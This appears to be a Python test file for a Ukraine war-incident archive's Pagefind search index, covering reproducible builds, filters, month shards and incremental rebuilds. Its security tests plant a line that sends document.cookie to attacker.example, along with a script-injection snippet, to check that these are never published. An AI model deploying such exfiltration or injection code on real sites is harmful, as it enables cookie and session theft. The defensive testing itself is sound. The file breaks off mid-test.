"""The search index: built from the archive model (each incident's own text, its date, regions and
key readings, its filter values), the same archive always gives the same Pagefind index, byte for
byte, and the index stays whole (every file it names is there, under the hash of its contents)."""

from __future__ import annotations

import errno
import gzip
import json
import os
import random
import re
import shutil
import subprocess
import sys
from pathlib import Path

import cbor2
import pagefind_bin
import pytest

import archive.incremental
import archive.pagefind_files
from archive.pagefind_files import pagefind_hash, read_index_file
from archive.pipeline import APP_DIR, Project, build, check
from archive.search import FILTERS, PagefindService, SearchIndexError, index_records, make_reproducible, search_records
from conftest import REPO, TODAY, VALID_INCIDENT, TinyArchive
from test_pipeline import clean_build, random_edit

sys.path.insert(0, str(REPO / "bench"))
from generate import generate

SECOND_INCIDENT = (VALID_INCIDENT
                   .replace("title: Drone strike on Kyiv", "title: Missile strike on Lviv")
                   .replace("regions: [UA-30, UA-32]", "regions: [UA-46, UA-30]")
                   .replace("{name: Boryspil, region: UA-32}", "{name: Stryi, region: UA-46}")
                   .replace("claimed_by: Vitali Klitschko", "claimed_by: Andriy Sadovyi")
                   .replace("region: UA-30\n", "region: UA-46\n"))


def tree(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


WEAPON_FIGURE = """  - measure: drones_launched
    value: 40
    qualifier: exactly
    weapon: Geran-2
    claimed_by: Ukrainian Air Force
    source: mt
    excerpt: "Russia launched 40 Shahed drones overnight."
quotes:"""
# Words of an incident page that are the page's, not the incident's.
SCAFFOLDING = ["No figures recorded yet", "Regions", "What happened", "Figures", "Sources", "Corrections", "Cite this incident",
               "Places named", "Suggest a correction", "Permanent link", "Evidence assessment", "whole incident"]


def tiny_archive(root: Path) -> TinyArchive:
    tiny = TinyArchive(root)
    tiny.write("2025-06-06-drone-strike-on-kyiv")
    tiny.write("2025-06-07-missile-strike-on-lviv", SECOND_INCIDENT.replace("date: 2025-06-06", "date: 2025-06-07")
               .replace("published: 2025-06-06", "published: 2025-06-07"))
    return tiny


def tiny_site(root: Path) -> Path:
    build(tiny_archive(root).project, today=TODAY)
    return root / "site"


def bundles(index: Path) -> list[Path]:
    """The primary bundle (a site's pagefind/) and its month shards, as static/search.js merges them."""
    manifest = json.loads((index / "shards.json").read_text(encoding="utf-8"))
    return [index, *(index / "shards" / shard["name"] for shard in manifest["shards"])]


def fragments(index: Path) -> dict[str, dict]:
    """Each indexed page's fragment (url, content, meta, filters) by its URL, as Pagefind's script reads it, in every bundle."""
    found = {}
    for path in (fragment for bundle in bundles(index) for fragment in (bundle / "fragment").glob("*.pf_fragment")):
        fragment = json.loads(gzip.decompress(path.read_bytes()).removeprefix(b"pagefind_dcd"))
        found[fragment["url"]] = fragment
    return found


def pagefind_cli(site: Path, output: Path) -> None:
    """Pagefind's own command line over HTML files: its order is whatever it is."""
    subprocess.run([str(pagefind_bin.get_executable()), "--site", str(site), "--silent", "--output-path", str(output)],
                   check=True, capture_output=True)


# --- reading an index, independently of how it was made ------------------------------------

def whole(data: bytes):
    """A CBOR item as Python values, read by cbor2, not by the code under test."""
    return cbor2.loads(data)


def languages(bundle: Path) -> dict:
    found: dict = json.loads((bundle / "pagefind-entry.json").read_text(encoding="utf-8"))["languages"]
    return found


def meta(bundle: Path, language: str) -> list:
    found: list = whole(read_index_file(bundle / f"pagefind.{languages(bundle)[language]['hash']}.pf_meta"))
    return found


def filters(bundle: Path) -> dict[str, dict[str, list[int]]]:
    """{filter: {value: page numbers}} of every language, as a reader of the index sees them."""
    found = {}
    for language in languages(bundle):
        for name, file_hash in meta(bundle, language)[3]:
            own_name, values = whole(read_index_file(bundle / "filter" / f"{file_hash}.pf_filter"))
            assert own_name == name
            found[f"{language}:{name}"] = {value: pages for value, pages in values}
    return found


def merged_filter_counts(index: Path) -> dict[str, dict[str, int]]:
    """{filter: {value: pages}} over every bundle, as Pagefind's mergeIndex adds them up."""
    counts: dict[str, dict[str, int]] = {}
    for bundle in bundles(index):
        for name, values in filters(bundle).items():
            for value, pages in values.items():
                counts.setdefault(name, {})[value] = counts.get(name, {}).get(value, 0) + len(pages)
    return counts


def assert_whole(bundle: Path) -> None:
    """Every file the index names exists, is named by the hash of its contents, and no other index file is left."""
    named = set()
    for language, details in languages(bundle).items():
        version, pages, chunks, filter_list, sorts, _fields = meta(bundle, language)
        assert version == "1.5.2"
        meta_body = read_index_file(bundle / f"pagefind.{details['hash']}.pf_meta")
        assert details["hash"] == f"{language}_{pagefind_hash(meta_body)[:len(language) + 8]}"
        assert details["page_count"] == len(pages)
        named |= {f"fragment/{page_hash}.pf_fragment" for page_hash, word_count in pages}
        named |= {f"index/{chunk_hash}.pf_index" for start, end, chunk_hash in chunks}
        named |= {f"filter/{filter_hash}.pf_filter" for name, filter_hash in filter_list}
        for _name, filter_hash in filter_list:
            body = read_index_file(bundle / "filter" / f"{filter_hash}.pf_filter")
            assert pagefind_hash(body).startswith(filter_hash[len(language) + 1:]), filter_hash
            values = [value for value, page_numbers in whole(body)[1]]
            assert values == sorted(values, key=lambda value: value.encode("utf-8"))
        assert [name for name, _ in filter_list] == sorted(name for name, _ in filter_list)
        for _sort, order in sorts:
            assert sorted(order) == list(range(len(pages)))
    present = {path.relative_to(bundle).as_posix() for path in bundle.glob("*/*.pf_*")}
    assert present == named
    assert len(list(bundle.glob("*.pf_meta"))) == len(languages(bundle))


# --- tests: what is indexed -----------------------------------------------------------------

def test_an_incident_is_indexed_by_its_own_text_never_its_pages_scaffolding(tiny):
    tiny.write("2025-06-06-drone-strike-on-kyiv", VALID_INCIDENT.replace("quotes:", WEAPON_FIGURE))
    tiny.write("2025-06-07-strike-without-figures", VALID_INCIDENT.replace("2025-06-06", "2025-06-07")
               .replace(VALID_INCIDENT[VALID_INCIDENT.index("figures:"):VALID_INCIDENT.index("quotes:")], "figures: []\n"))
    archive, _ = check(tiny.project, today=TODAY)
    assert archive is not None
    records = {record.url: record for record in search_records(archive)}
    kyiv = records["incidents/2025-06-06-drone-strike-on-kyiv/"]
    assert kyiv.content.startswith("Drones hit Kyiv overnight. ")  # the summary as text, without its Markdown
    for words in ("Ihor Klymenko, Interior Minister of Ukraine: \u201cThey worked under fire to help people.\u201d",
                  "Vitali Klitschko: \u201cAt least four people were killed and 20 wounded in the capital.\u201d",
                  "Boryspil", "Kyiv (Kiev", "Kyiv Oblast (Kiev Oblast", "Shahed-136 (one-way attack drone, Shahed, Geran-2, Geran)",
                  "The Moscow Times"):
        assert words in kyiv.content, words
    assert "Drone strike on Kyiv" not in kyiv.content  # the title is the result's title, searched as such
    assert kyiv.meta == {"title": "Drone strike on Kyiv", "date": "6 June 2025", "regions": "Kyiv, Kyiv Oblast",
                         "readings": "Killed: at least 4 (Ukraine)"}
    assert kyiv.filters == {"region": ["Kyiv", "Kyiv Oblast"], "place": ["Boryspil"], "year": ["2025"], "date": ["2025-06-06"],
                            "measure": ["Killed", "Drones launched"], "claimant": ["Vitali Klitschko", "Ukrainian Air Force"],
                            "weapon": ["Shahed-136"]}
    bare = records["incidents/2025-06-07-strike-without-figures/"]
    assert "readings" not in bare.meta
    assert set(bare.filters) == {"region", "place", "year", "date"}  # a filter with no values is left out, not written empty
    for record in (kyiv, bare):
        for word in SCAFFOLDING:
            assert word not in record.content, word
    region = records["regions/ua-32/"]  # found by its names and code, not by every word of its incidents
    assert (region.title, region.content, region.meta, region.filters) == (
        "Kyiv Oblast", "Kiev Oblast, Kiev region, Kyivska oblast \u00b7 UA-32", {"title": "Kyiv Oblast"}, {"kind": ["region"]})
    assert records["about/"].content == "Text of the about page." and records["about/"].filters == {}


def test_the_place_filter_holds_settlement_names_not_areas(tiny):
    located = ("  - {name: Boryspil, region: UA-32, lat: 50.35051, lon: 30.95263, precision: settlement, located_by: GeoNames 711660}\n"
               "  - {name: Brovary district, region: UA-32, lat: 50.5, lon: 30.9, precision: district}\n"
               "  - {name: Kyiv Oblast, region: UA-32, lat: 49.7994, lon: 30.1165, precision: region}\n"
               "  - {name: Kyiv, region: UA-30}\n")
    tiny.write("2025-06-06-drone-strike-on-kyiv", VALID_INCIDENT.replace("  - {name: Boryspil, region: UA-32}\n", located))
    archive, _ = check(tiny.project, today=TODAY)
    assert archive is not None
    [record] = [record for record in search_records(archive) if record.kind == "incident"]
    assert record.filters["place"] == ["Boryspil", "Kyiv"]  # a place without coordinates is a settlement all the same


def test_the_index_holds_the_records_with_their_details_and_filters(tmp_path):
    site = tiny_site(tmp_path / "archive")
    bundle = site / "pagefind"
    found = fragments(bundle)
    assert sorted(found) == ["/about/", "/contribute/", "/incidents/2025-06-06-drone-strike-on-kyiv/",
                             "/incidents/2025-06-07-missile-strike-on-lviv/", "/methodology/", "/regions/ua-30/",
                             "/regions/ua-32/", "/regions/ua-46/"]
    lviv = found["/incidents/2025-06-07-missile-strike-on-lviv/"]
    assert lviv["meta"] == {"title": "Missile strike on Lviv", "date": "7 June 2025", "regions": "Lviv Oblast, Kyiv",
                            "readings": "Killed: at least 4 (Andriy Sadovyi)"}  # no party in the registry: his own
    assert lviv["content"].startswith("Drones hit Kyiv overnight. Ihor Klymenko")
    assert lviv["filters"]["date"] == ["2025-06-07"]
    values = merged_filter_counts(bundle)
    # Filter counts are incidents: a region's own page is not one of its filter's pages.
    assert values["en:region"] == {"Kyiv": 2, "Kyiv Oblast": 1, "Lviv Oblast": 1}
    assert set(values["en:claimant"]) == {"Vitali Klitschko", "Andriy Sadovyi"}
    assert set(values) == {"en:claimant", "en:date", "en:kind", "en:measure", "en:place", "en:region", "en:year", "en:shard"}  # no weapon: none has one
    assert values["en:kind"] == {"region": 3}
    [june] = json.loads((bundle / "shards.json").read_text(encoding="utf-8"))["shards"]
    assert values["en:shard"] == {"pages": 3, june["label"]: 5} and june["records"] == 5 and june["name"].startswith(june["label"] + "-")  # the year's shard, by its first month
    _, pages, *_, sorts, fields = meta(bundle / "shards" / june["name"], "en")
    assert sorted(fields) == ["date", "readings", "regions", "title"]
    # A shard's pages are numbered from oldest to newest (a region by its latest incident), the reverse of the archive's
    # order (incidents newest first, then regions), which search.js puts its results in: no date sort in the shard.
    in_order = [json.loads(read_index_file(bundle / "shards" / june["name"] / "fragment" / f"{name}.pf_fragment"))["url"] for name, _ in pages]
    assert in_order == ["/regions/ua-32/", "/incidents/2025-06-06-drone-strike-on-kyiv/",
                        "/regions/ua-46/", "/regions/ua-30/", "/incidents/2025-06-07-missile-strike-on-lviv/"]
    assert sorts == []
    _, content_pages, *_, primary_sorts, _ = meta(bundle, "en")  # the content pages' bundle: named by a digest of them, oldest first
    assert primary_sorts == []
    [prefix] = {name.rsplit("_", 1)[0] for name, _ in content_pages}
    assert re.fullmatch(r"en_p[0-9a-f]{6}", prefix) and [name for name, _ in content_pages] == [f"{prefix}_{n}" for n in range(3)]
    in_order = [json.loads(read_index_file(bundle / "fragment" / f"{name}.pf_fragment"))["url"] for name, _ in content_pages]
    assert in_order == ["/methodology/", "/contribute/", "/about/"]  # the reverse of the archive's order


def test_both_search_pages_show_the_filters_the_index_has_in_one_order_with_one_name_each():
    names = "var FILTER_NAMES = " + json.dumps([[key, label] for key, label in FILTERS.items()]) + ";"
    assert names in (REPO / "static" / "search-common.js").read_text(encoding="utf-8")
    for page in ("search.html", "search_offline.html"):
        assert "static/search-common.js" in (REPO / "templates" / page).read_text(encoding="utf-8"), page


# --- tests: the same archive, the same index ---------------------------------------------------

def test_two_builds_of_the_same_site_write_the_same_search_index(tmp_path):
    sites = [tiny_site(tmp_path / name) for name in ("one", "two")]
    first, second = (tree(site / "pagefind") for site in sites)
    assert first.keys() == second.keys()
    assert first == second
    assert any(name.startswith("filter/") for name in first)
    assert "pagefind.js" in first and "pagefind-worker.js" in first
    assert "pagefind-ui.js" not in first  # Pagefind's own UI is not used (static/search.js draws results)
    for bundle in bundles(sites[0] / "pagefind"):
        assert_whole(bundle)


def test_the_index_is_pagefinds_with_its_lists_in_order(tmp_path):
    """Pagefind's own runs differ from each other (filter order is random in each); put in order,
    they are one index, which holds exactly what Pagefind wrote."""
    archive, _ = check(tiny_archive(tmp_path / "archive").project, today=TODAY)
    assert archive is not None
    records = search_records(archive)
    raw = []
    for number in range(4):
        index_records(records, tmp_path / f"raw{number}")
        raw.append(tmp_path / f"raw{number}")
    ordered = []
    for bundle in raw:
        copy = tmp_path / f"ordered-{bundle.name}"
        shutil.copytree(bundle, copy)
        make_reproducible(copy)
        assert filters(copy) == filters(bundle)  # the same values and pages, only in order
        assert_whole(copy)
        ordered.append(tree(copy))
    assert all(other == ordered[0] for other in ordered[1:])
    make_reproducible(tmp_path / f"ordered-{raw[0].name}")  # a second pass changes nothing
    assert tree(tmp_path / f"ordered-{raw[0].name}") == ordered[0]


@pytest.mark.slow
def test_a_generated_archive_built_twice_gives_the_same_index(tmp_path):
    """Enough pages (over 400) to be written by parallel workers, in an order that varies."""
    sites = []
    for name in ("one", "two"):
        root = tmp_path / name
        subprocess.run([sys.executable, str(REPO / "bench" / "generate.py"), "--incidents", "300", "--out", str(root)],
                       check=True, capture_output=True)
        build(Project(root=root), today=TODAY)
        sites.append(root / "site")
    first, second = (tree(site / "pagefind") for site in sites)
    assert first == second
    shards = bundles(sites[0] / "pagefind")
    for bundle in shards:
        assert_whole(bundle)
    assert len(shards) > 3  # a month each
    assert sum(len(meta(bundle, "en")[1]) for bundle in shards) > 300


# --- tests: Pagefind's service ---------------------------------------------------------------------

def test_a_request_pagefind_refuses_is_an_error_with_its_reason(tmp_path):
    with pytest.raises(SearchIndexError, match="Pagefind refused a request"), PagefindService() as service:
        service.request({"type": "AddRecord", "index_id": 99, "url": "/x/", "content": "x", "language": "en",
                         "meta": None, "filters": None, "sort": None})


def test_a_missing_pagefind_binary_is_an_error(tmp_path, monkeypatch):
    monkeypatch.setattr("pagefind_bin.get_executable", lambda: tmp_path / "no-such-pagefind")
    with pytest.raises(SearchIndexError, match="cannot run Pagefind"):
        index_records([], tmp_path / "out")


def test_many_records_go_through_the_pipe_without_waiting_on_it(tmp_path):
    """More than a pipe holds each way (64 KiB): requests are written while replies are read."""
    from archive.search import SearchRecord

    records = [SearchRecord(f"incidents/{number}/", "incident", f"Incident {number}", "2025-06-06", "word " * 200,
                            {"title": f"Incident {number}"}, {"year": ["2025"]}) for number in range(1500)]
    index_records(records, tmp_path / "out")
    make_reproducible(tmp_path / "out")
    assert languages(tmp_path / "out")["en"]["page_count"] == 1500


def test_an_index_of_another_layout_is_refused_not_half_rewritten(tmp_path):
    site = tiny_site(tmp_path / "archive")
    bundle = site / "pagefind"
    [meta_path] = bundle.glob("*.pf_meta")
    meta_path.write_bytes(gzip.compress(b"pagefind_dcd" + b"\x83" + b"\x61a" * 3, mtime=0))
    with pytest.raises(SearchIndexError, match="index format"):
        make_reproducible(bundle)
    (bundle / "pagefind-entry.json").write_text('{"version": "1.5.2"}')
    with pytest.raises(SearchIndexError, match="index format"):
        make_reproducible(bundle)


# --- tests: the index in month shards, rebuilt in part ----------------------------------------

def three_months(root: Path) -> TinyArchive:
    """An incident in April, May and June 2025 (three shards); May's is the one changed below."""
    tiny = TinyArchive(root)
    for day, title in (("2025-04-10", "Drone strike on Kyiv"), ("2025-05-12", "Strike on a Kyiv depot"), ("2025-06-06", "Drone strike on Boryspil")):
        slug = title.lower().replace(" ", "-")
        tiny.write(f"{day}-{slug}", VALID_INCIDENT.replace("date: 2025-06-06", f"date: {day}")
                   .replace("published: 2025-06-06", f"published: {day}").replace("title: Drone strike on Kyiv", f"title: {title}"))
    return tiny


def change_may(tiny: TinyArchive, change: str) -> None:
    may = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-a-kyiv-depot.yaml"
    text = may.read_text(encoding="utf-8")
    if change == "edit":
        may.write_text(text.replace("title: Strike on a Kyiv depot", "title: Strike on a Kyiv zebrafinch depot"), encoding="utf-8")
    elif change == "addition":
        tiny.write("2025-05-20-zebrafinch-shelling", text.replace("date: 2025-05-12", "date: 2025-05-20")
                   .replace("title: Strike on a Kyiv depot", "title: Zebrafinch shelling"))
    elif change == "removal":
        may.unlink()
    else:  # renamed: a new id, the old one kept for old links
        may.unlink()
        tiny.write("2025-05-12-zebrafinch-depot", text.replace("title: Strike on a Kyiv depot", "title: Zebrafinch depot")
                   .replace("corrections: []", "corrections: []\nprevious_ids: [2025-05-12-strike-on-a-kyiv-depot]"))


@pytest.mark.parametrize("change", ["edit", "addition", "removal", "rename"])
def test_a_change_indexes_its_month_again_and_gives_the_index_a_clean_build_gives(tmp_path, monkeypatch, change):
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)  # a shard a month, as in a year of more than SHARD_RECORDS
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    before = fragments(tiny.root / "site" / "pagefind")
    indexed: list[str] = []
    real_index_records = index_records

    def recording(records, output_dir, **options):
        indexed.extend(sorted({record.filters["shard"][0] for record in records}))  # the shard's first month
        real_index_records(records, output_dir, **options)

    monkeypatch.setattr("archive.search.index_records", recording)
    change_may(tiny, change)
    build(tiny.project, today=TODAY)
    monkeypatch.setattr("archive.search.index_records", real_index_records)
    index = tiny.root / "site" / "pagefind"
    # April, June and the content pages are the last build's; May is gone once its only incident is.
    assert [name[:7] for name in indexed] == ([] if change == "removal" else ["2025-05"])

    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")

    after = fragments(index)
    titles = {fragment["meta"]["title"] for fragment in after.values()}
    if change == "removal":
        assert "Strike on a Kyiv depot" not in titles and len(after) == len(before) - 1
    else:
        assert any("Zebrafinch" in title or "zebrafinch" in title for title in titles)
        assert ("Strike on a Kyiv depot" in titles) == (change == "addition")


def content(index: Path) -> dict[str, bytes]:
    """Every file of an index, Pagefind's gzip'd ones decompressed: what a search reads."""
    return {path: read_index_file(index / path) if path.endswith(("pf_meta", "pf_index", "pf_filter", "pf_fragment")) else body
            for path, body in tree(index).items()}


def assert_the_index_of_a_clean_build(root: Path, clean: Path) -> None:
    """The search index in root's site/ holds the files a clean build of the same archive (in `clean`) writes, each the
    same once decompressed."""
    shutil.copytree(root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline", ".git"))
    build(Project(root=clean), today=TODAY)
    assert content(root / "site" / "pagefind") == content(clean / "site" / "pagefind")


def six_in_may(root: Path) -> TinyArchive:
    """Six incidents in May 2025: one shard, of which a change re-indexes the changed records alone."""
    tiny = TinyArchive(root)
    for day, place in ((3, "Kyiv"), (8, "Brovary"), (12, "Irpin"), (17, "Bucha"), (22, "Fastiv"), (27, "Obukhiv")):
        tiny.write(f"2025-05-{day:02d}-strike-on-{place.lower()}", VALID_INCIDENT.replace("date: 2025-06-06", f"date: 2025-05-{day:02d}")
                   .replace("published: 2025-06-06", f"published: 2025-05-{day:02d}").replace("title: Drone strike on Kyiv", f"title: Strike on {place}"))
    fastiv = tiny.root / "incidents" / "2025" / "2025-05-22-strike-on-fastiv.yaml"  # a word with an accented spelling (a Pagefind variant)
    fastiv.write_text(fastiv.read_text(encoding="utf-8").replace("title: Strike on Fastiv", "title: Strike on Fastiv, say Médecins Sans Frontières"),
                      encoding="utf-8")
    return tiny


def record_pagefinds_records(monkeypatch) -> list[str]:
    """The URLs of the records Pagefind is asked to index from now on, in a list that fills as it is."""
    asked: list[str] = []
    real_index_records = index_records

    def recording(records, output_dir, **options):
        asked.extend(record.url for record in records)
        real_index_records(records, output_dir, **options)

    monkeypatch.setattr("archive.search.index_records", recording)
    return asked


ADDED_THE_SAME_DAY = {"same day, id before": "2025-05-12-a-zebrafinch-shelling", "same day, id after": "2025-05-12-zebrafinch-shelling"}


@pytest.mark.parametrize("change", ["edit", "addition", "removal", "rename", "new date", *ADDED_THE_SAME_DAY])
def test_a_change_to_a_large_shard_indexes_only_the_changed_records_and_gives_a_clean_builds_index(tmp_path, monkeypatch, change):
    tiny = six_in_may(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    asked = record_pagefinds_records(monkeypatch)
    irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
    text = irpin.read_text(encoding="utf-8")
    if change == "edit":
        irpin.write_text(text.replace("title: Strike on Irpin", "title: Strike on a zebrafinch depot in Irpin"), encoding="utf-8")
    elif change == "addition":
        tiny.write("2025-05-14-zebrafinch-shelling", text.replace("date: 2025-05-12", "date: 2025-05-14").replace("title: Strike on Irpin", "title: Zebrafinch shelling"))
    elif change in ADDED_THE_SAME_DAY:  # numbered beside Irpin's, on one side or the other (by their ids)
        tiny.write(ADDED_THE_SAME_DAY[change], text.replace("title: Strike on Irpin", "title: Zebrafinch shelling"))
    elif change == "removal":
        irpin.unlink()
    elif change == "rename":
        irpin.unlink()
        tiny.write("2025-05-12-zebrafinch-depot", text.replace("title: Strike on Irpin", "title: Zebrafinch depot")
                   .replace("corrections: []", "corrections: []\nprevious_ids: [2025-05-12-strike-on-irpin]"))
    else:  # a new date (and so a new id) moves the incident among the others
        irpin.unlink()
        tiny.write("2025-05-25-strike-on-irpin", text.replace("date: 2025-05-12", "date: 2025-05-25").replace("title: Strike on Irpin", "title: Zebrafinch strike on Irpin")
                   .replace("corrections: []", "corrections: []\nprevious_ids: [2025-05-12-strike-on-irpin]"))
    build(tiny.project, today=TODAY)

    changed = {"edit": ["incidents/2025-05-12-strike-on-irpin/"], "addition": ["incidents/2025-05-14-zebrafinch-shelling/"], "removal": [],
               "rename": ["incidents/2025-05-12-zebrafinch-depot/"], "new date": ["incidents/2025-05-25-strike-on-irpin/"],
               **{name: [f"incidents/{ident}/"] for name, ident in ADDED_THE_SAME_DAY.items()}}[change]
    assert [url for url in asked if url.startswith("incidents/")] == changed  # the other five incidents' pages are the last index's
    index = tiny.root / "site" / "pagefind"
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")
    titles = {fragment["meta"]["title"] for fragment in fragments(index).values()}
    assert ("Strike on Irpin" in titles) == (change == "addition" or change in ADDED_THE_SAME_DAY)
    assert any("zebrafinch" in title.lower() for title in titles) == (change != "removal")


def test_a_shard_whose_cached_keys_do_not_give_its_name_is_indexed_whole(tmp_path, monkeypatch):
    """A cache that names other records than a shard holds (tampered with, or from another build) is not
    trusted: the shard is indexed whole, and the index is still a clean build's."""
    tiny = six_in_may(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    cache = tiny.root / ".cache" / "search-shards.json"
    stored = json.loads(cache.read_text(encoding="utf-8"))
    [(name, keys)] = stored["entries"]["shards"].items()
    stored["entries"]["shards"][name] = [*keys[1:], keys[0]]
    cache.write_text(json.dumps(stored), encoding="utf-8")
    asked = record_pagefinds_records(monkeypatch)
    irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
    irpin.write_text(irpin.read_text(encoding="utf-8").replace("title: Strike on Irpin", "title: Strike on Irpin again"), encoding="utf-8")
    build(tiny.project, today=TODAY)
    assert len([url for url in asked if url.startswith("incidents/")]) == 6


@pytest.mark.parametrize("damaged", ["index", "filter"])
def test_an_earlier_shard_that_cannot_be_read_is_indexed_whole_and_the_index_is_still_a_clean_builds(tmp_path, monkeypatch, damaged):
    """The files a shard indexed in part reads (its word index and filters) are checked as they are read;
    its fragments are linked as the last build wrote them, as its unchanged pages are."""
    tiny = six_in_may(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    [shard] = (tiny.root / "site" / "pagefind" / "shards").iterdir()
    victim = sorted((shard / damaged).iterdir())[0]
    victim.unlink()
    victim.write_bytes(b"not gzip")  # a new file: the last build's other links are left alone
    irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
    irpin.write_text(irpin.read_text(encoding="utf-8").replace("title: Strike on Irpin", "title: Strike on Irpin again"), encoding="utf-8")
    asked = record_pagefinds_records(monkeypatch)
    build(tiny.project, today=TODAY)
    assert len([url for url in asked if url.startswith("incidents/")]) == 6  # the whole shard, indexed again
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_a_site_that_came_with_the_repository_is_never_taken_into_the_new_index(tmp_path, monkeypatch):
    """A pull request can add site/ (git add -f), with an index named as a build of its tree would name it and a
    script of its own: a build with no cache that says the last build wrote that site indexes everything anew,
    publishing none of it."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    index = tiny.root / "site" / "pagefind"
    planted = {index / "pagefind.js": b"fetch('https://attacker.example/' + document.cookie)"}
    for shard in (index / "shards").iterdir():
        fragment = sorted((shard / "fragment").iterdir())[0]
        planted[fragment] = gzip.compress(b'pagefind_dcd{"url":"https://attacker.example/","meta":{"title":"Planted"}}')
    for path, body in planted.items():
        path.unlink()
        path.write_bytes(body)
    shutil.rmtree(tiny.root / ".cache")  # as a fresh clone has none
    build(tiny.project, today=TODAY)
    published = tree(index)
    assert not [path for path, body in published.items() if body in planted.values()]
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tmp_path, monkeypatch):
    """What lies in site/ beside the last build's files is left out of the files the next build keeps from it."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    secret = tmp_path / "secret.txt"
    secret.write_text("the contents of a file outside the repository")
    index = tiny.root / "site" / "pagefind"
    april = next(shard for shard in (index / "shards").iterdir() if shard.name.startswith("2025-04"))
    (april / "fragment" / "en_leak.pf_fragment").symlink_to(secret)
    (index / "leak.js").symlink_to(secret)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "secret.txt").write_text("the contents of a file outside the repository")
    (april / "linked-folder").symlink_to(elsewhere, target_is_directory=True)
    os.mkfifo(index / "pipe")
    change_may(tiny, "edit")
    build(tiny.project, today=TODAY)
    kept = [Path(folder) / name for folder, folders, files in os.walk(index) for name in folders + files]
    assert not [path for path in kept if path.is_symlink() or not (path.is_file() or path.is_dir())]
    assert not [path for path in kept if path.is_file() and b"outside the repository" in path.read_bytes()]
    assert {path.name for path in kept}.isdisjoint({"en_leak.pf_fragment", "leak.js", "linked-folder", "pipe"})


def test_an_index_a_checkout_wrote_over_the_last_builds_is_never_taken_into_the_new_one(tmp_path, monkeypatch):
    """Checking out a branch that adds files to site/ (git add -f) writes them over the last build's, in place:
    whatever git tracks there is never linked into the next site, a page or the search index."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run(["git", "init", "-q"], cwd=tiny.root, check=True)
    (tiny.root / ".gitignore").write_text("site/\n.cache/\n")
    subprocess.run([*git, "add", "-A"], cwd=tiny.root, check=True)
    subprocess.run([*git, "commit", "-qm", "archive"], cwd=tiny.root, check=True)
    build(tiny.project, today=TODAY)
    site = tiny.root / "site"
    planted = {site / "pagefind" / "pagefind.js": b"fetch('https://attacker.example/' + document.cookie)",
               site / "incidents" / "2025-04-10-drone-strike-on-kyiv" / "index.html": b"<script>alert(1)</script>"}
    for path, body in planted.items():
        path.write_bytes(body)  # as git writes a checked-out file over an ignored one: in place
    subprocess.run([*git, "add", "-f", *map(str, planted)], cwd=tiny.root, check=True)
    subprocess.run([*git, "commit", "-qm", "a site of its own"], cwd=tiny.root, check=True)
    change_may(tiny, "edit")
    warnings = build(tiny.project, today=TODAY).warnings
    assert not [path for path, body in planted.items() if path.read_bytes() == body]
    [warning] = [warning for warning in warnings if "git rm -r --cached site" in warning.message]
    assert warning.path in {str(path.relative_to(tiny.root)) for path in planted} and warning.severity == "warning"
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


@pytest.mark.parametrize("planted", ["fragment: link", "fragment: fifo", "entry file: fifo", "shard list: fifo"])
def test_a_file_of_the_last_index_that_is_not_a_regular_file_has_its_shard_indexed_whole(tmp_path, monkeypatch, planted):
    """A shard indexed in part reads the last build's shard and links its unchanged pages' fragments: a file of it
    that is a link or a FIFO is neither followed, waited for nor published, and the shard is indexed whole instead."""
    tiny = six_in_may(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    [shard] = (tiny.root / "site" / "pagefind" / "shards").iterdir()
    victim = {"fragment": sorted((shard / "fragment").iterdir())[0], "entry file": shard / "pagefind-entry.json",
              "shard list": tiny.root / "site" / "pagefind" / "shards.json"}[planted.split(":")[0]]
    outside = tmp_path / "outside"  # the very file, outside the repository
    shutil.copyfile(victim, outside)
    victim.unlink()
    victim.symlink_to(outside) if planted.endswith("link") else os.mkfifo(victim)
    irpin = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-irpin.yaml"
    irpin.write_text(irpin.read_text(encoding="utf-8").replace("title: Strike on Irpin", "title: Strike on Irpin again"), encoding="utf-8")
    asked = record_pagefinds_records(monkeypatch)
    build(tiny.project, today=TODAY)
    assert len({url for url in asked if url.startswith("incidents/")}) == 6  # the whole shard, indexed again (after the edited record)
    index = tiny.root / "site" / "pagefind"
    kept = [Path(folder) / name for folder, _, files in os.walk(index) for name in files]
    assert all(path.is_file() and not path.is_symlink() for path in kept)
    assert not [path for path in kept if os.path.samefile(path, outside)]
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_a_file_system_without_hard_links_builds_the_index_a_clean_build_gives(tmp_path, monkeypatch):
    """Some file systems (FAT, exFAT, some shared folders) have no hard links: what a build keeps of the last one is copied."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)

    def no_links(*arguments, **options):
        raise OSError(errno.EPERM, "Operation not permitted")

    with monkeypatch.context() as without_links:
        without_links.setattr(os, "link", no_links)
